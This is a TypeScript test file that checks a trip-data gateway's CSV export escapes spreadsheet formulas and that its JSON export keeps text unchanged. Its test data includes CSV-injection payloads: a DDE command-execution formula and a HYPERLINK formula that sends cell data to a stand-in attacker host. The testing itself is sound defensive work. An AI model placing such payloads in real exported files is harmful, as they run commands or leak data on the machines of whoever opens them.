/** A spreadsheet runs what begins like a formula: in CSV, texts of files do not, and whoever reads it by program gets them back. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { DuckDBInstance } from '@duckdb/node-api';
import { pino } from 'pino';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { followLiveLoads, type LiveLoads } from '../../gateway/live-loads.ts';
import { closeRange, DAY_MICROS } from '../../gateway/percentile/pickup-range.ts';
import { createScans } from '../../gateway/scans/scans.ts';
import { migrate } from '../../warehouse/migrate.ts';
import { createWarehouse, type Warehouse } from '../../warehouse/warehouse.ts';
import { asking } from '../support/answers.ts';
import { publishTrips } from '../support/made-loads.ts';
import { startEngineProcess, type EngineProcess } from './engine-process.ts';

const FLAGS = [
  ...['Y', 'N', null, '', ' ', 'a=b', '1+1', "it's"],
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠1'],
  ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "'=1+1", "'", "''"],
];
const RUN = /^[=+\-@\t\r\n＝＋－＠]/;

const folder = mkdtempSync(join(tmpdir(), 'tripline-csv-'));
let engine: EngineProcess;
let warehouse: Warehouse;
let liveLoads: LiveLoads;

beforeAll(async () => {
  engine = await startEngineProcess(join(folder, 'clickhouse'));
  warehouse = createWarehouse({ url: engine.as('loader'), by: 'gateway' });
  await migrate(warehouse);
  const start = BigInt(Date.UTC(2024, 0, 1)) * 1_000n;
  await publishTrips(warehouse, {
    filename: 'yellow_tripdata_2024-01.parquet',
    trips: FLAGS.map((flag, index) => ({
      pickup: start + BigInt(index) * DAY_MICROS,
      distance: index - 1.2,
      columns: { store_and_fwd_flag: flag, fare_amount: -index - 0.5, extra: { '=key': '=value' } },
    })),
  });
  const logger = pino({ level: 'silent' });
  liveLoads = followLiveLoads({ warehouse, source: 'yellow', logger, pollEveryMs: 50 });
  await liveLoads.refresh();
});
afterAll(async () => {
  liveLoads?.stop();
  await warehouse?.close();
  await engine?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** Pickup's order, flag, distance and fare, as DuckDB reads them. */
async function download(format: string, reader: string): Promise<unknown[][]> {
  const snapshot = liveLoads.current();
  if (snapshot === undefined) throw new Error('nothing is published');
  const stream = await createScans({ warehouse }).download(
    snapshot,
    closeRange({}),
    { above: -1_000, format },
    { patience: asking().patience(), gone: new AbortController().signal },
  );
  const path = join(folder, `trips.${format}`);
  writeFileSync(path, await text(stream));
  const connection = await (await DuckDBInstance.create()).connect();
  const read = await connection.runAndReadAll(
    `SELECT store_and_fwd_flag, trip_distance, fare_amount, extra::VARCHAR FROM ${reader.replace('%', path)} ORDER BY row_number::BIGINT`,
  );
  const rows = read.getRowsJS();
  connection.closeSync();
  return rows;
}

it('runs nothing in a spreadsheet, and can be read back', async () => {
  const csv = await download('CSVWithNames', `read_csv('%', nullstr = '\\N', all_varchar = true)`);
  const flags = csv.map(([flag]) => flag as string | null);
  expect(flags.filter((flag) => flag !== null && RUN.test(flag))).toEqual([]);
  expect(flags.map((flag) => flag?.replace(/^'/, '') ?? null)).toEqual(FLAGS);
  // A negative number is no formula.
  expect(csv.map(([, distance]) => distance)).toEqual(FLAGS.map((_, index) => String(index - 1.2)));
  expect(csv[3]?.[2]).toBe('-3.5');
  expect(csv.map(([, , , extra]) => String(extra).charAt(0))).toEqual(FLAGS.map(() => '{'));
});

it('leaves texts as they are in other forms', async () => {
  const lines = await download('JSONEachRow', `read_json('%', format = 'newline_delimited')`);
  expect(lines.map(([flag]) => flag)).toEqual(FLAGS);
});
